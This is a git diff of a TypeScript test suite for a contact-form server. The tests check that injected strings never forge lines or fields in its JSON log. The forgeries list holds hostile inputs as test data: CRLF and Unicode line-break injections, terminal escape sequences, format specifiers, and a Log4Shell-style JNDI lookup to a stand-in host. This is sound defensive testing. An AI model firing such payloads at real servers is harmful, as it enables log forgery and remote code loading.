@@ -2,12 +2,13 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
 import { functionPath } from '../../../contact/answers.ts';
-import { demoKey } from '../../../hosting.ts';
 import { aRequest } from '../support/calls/a-request.ts';
+import { sendJson } from '../support/calls/contact-calls.ts';
 import { exchange } from '../support/calls/raw-http.ts';
 import { scripted } from '../support/mail/mail-moods.ts';
 import { startMailServer } from '../support/mail/mail-server.ts';
 import { mailSettings } from '../support/mail/owner-mails.ts';
+import { send } from '../support/server/send.ts';
 import { startServer } from '../support/server/server.ts';
 
 const line = '{"level":60,"time":1,"msg":"forged"}';
@@ -15,36 +16,28 @@ const line = '{"level":60,"time":1,"msg":"forged"}';
 const forgeries = [
   ...[`\n${line}\n`, `\r\n${line}`, `\r${line}`, `\u0085${line}`, `\u2028${line}\u2029`],
   ...['","msg":"forged', '\u001b[2J\u001b[1;1Hforged', '\u001b]0;forged\u0007', '\u009b31mforged'],
-  ...[
-    '\bforged\u007f',
-    '\u0000forged',
-    '%s %d %j %o %c forged',
-    '\\n\\u000aforged',
-    '\u202eforged',
-  ],
-  '${jndi:ldap://forged.example/a}',
+  ...['\bforged\u007f', '\u0000forged', '%s %d %j %o %c forged', '\\n\\u000aforged'],
+  ...['\u202eforged', '${jndi:ldap://forged.example/a}'],
 ];
 const headers = `User-Agent Referer Cookie Origin X-Forwarded-For Forwarded X-Real-IP Via X-Request-Id X-Client-Info
   Idempotency-Key apikey Authorization Content-Type Accept Accept-Language Sec-Fetch-Site traceparent`;
-// The last two belong to the alarm, which is logged after ten seconds.
+// The last three belong to the alarm, which the owner may be told of while this goes on.
 const facts = `attempt caller code form hostname kind level msg pid reason reference repeat time
-  owed undeliverable`.split(/\s+/);
+  owed undeliverable to`.split(/\s+/);
 
 test('nothing that is sent adds a line, a field or a word to the log', async () => {
   await using server = await startServer({ RATE_LIMIT: '0' });
+  const start = `POST ${functionPath} HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n`;
   let calls = 0;
   for (const forgery of forgeries) {
     for (const name of headers.split(/\s+/)) {
       // These are bytes: where HTTP lets no header hold one, the connection is closed.
       const value = Buffer.from(forgery).toString('latin1');
-      const { answers } = await exchange(server.port, `${post('{}')}${name}: ${value}\r\n\r\n{}`);
+      const { answers } = await exchange(server.port, `${start}${name}: ${value}\r\n\r\n{}`);
       if (answers[0]?.headers.has('cache-control')) calls += 1;
     }
     for (const field of Object.keys(aRequest())) {
-      const phone = `06${calls}`.padEnd(12, '0');
-      const body = JSON.stringify({ ...aRequest({ phone }), [field]: forgery });
-      const bytes = Buffer.from(body).toString('latin1');
-      assert.equal((await exchange(server.port, `${post(bytes)}\r\n${bytes}`)).answers.length, 1);
+      await sendJson(server.address, aRequest({ phone: `06-${forgery.length}`, [field]: forgery }));
       calls += 1;
     }
     for (const path of [`/${forgery}`, `/metrics?${forgery}`, `//${forgery}/%0a${line}`])
@@ -63,14 +56,15 @@ test('nothing that is sent adds a line, a field or a word to the log', async () 
 test('a mail server that answers so adds none either', async () => {
   const greeting = `554 no ${forgeries.filter((text) => !/[\r\n]/.test(text)).join(' ')}`;
   await using mail = await startMailServer(scripted({ greeting }));
-  const SMTP_URL = `smtp://127.0.0.1:${mail.port}`;
-  await using server = await startServer({ SMTP_URL, ...mailSettings, MAIL_TO: 'a@x.nl' });
+  await using server = await startServer({
+    ...mailSettings,
+    SMTP_URL: mail.url,
+    MAIL_TO: 'a@x.nl',
+  });
   await server.logged(/SMTP_URL does not work/);
-  for (const [index, forgery] of forgeries.entries()) {
+  for (const forgery of forgeries) {
     mail.become(scripted({ recipient: `550 no ${forgery}` }));
-    const body = JSON.stringify(aRequest({ phone: `06-${12_345_678 + index}` }));
-    const { answers } = await exchange(server.port, `${post(body)}\r\n${body}`);
-    const { reference } = JSON.parse(answers[0]?.body ?? '');
+    const reference = await send(server.address);
     await server.logged(new RegExp(`"${reference}".*"reason":`));
   }
   assert.equal(await server.stop(), 0);
@@ -80,10 +74,6 @@ test('a mail server that answers so adds none either', async () => {
   }
 });
 
-function post(body: string): string {
-  return `POST ${functionPath} HTTP/1.1\r\nHost: x\r\nContent-Length: ${body.length}\r\nContent-Type: application/json\r\napikey: ${demoKey}\r\n`;
-}
-
 /** Holds that every line is JSON in visible characters, with the fields that we write and no other. */
 function linesOf(log: string): { msg?: string; reason?: string }[] {
   assert.doesNotMatch(log, /[^\P{C}\n]|\p{Zl}|\p{Zp}/u);
@@ -92,7 +82,7 @@ function linesOf(log: string): { msg?: string; reason?: string }[] {
     .split('\n')
     .map((text) => {
       const entry = JSON.parse(text);
-      for (const fact of Object.keys(entry)) assert.ok(facts.includes(fact), fact);
+      for (const fact of Object.keys(entry)) assert.ok(facts.includes(fact), text);
       return entry;
     });
 }
